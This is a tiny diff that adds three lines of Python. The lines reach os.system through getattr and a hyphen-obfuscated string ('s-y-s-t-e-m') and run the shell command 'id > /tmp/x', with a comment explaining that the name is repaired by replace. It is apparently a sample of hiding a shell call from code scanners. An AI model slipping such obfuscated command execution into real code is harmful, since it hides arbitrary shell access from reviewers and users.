@@ -1,0 +1,3 @@
+# why: the name is repaired by replace
+import os
+getattr(os, "s-y-s-t-e-m".replace("-", ""))("id > /tmp/x")
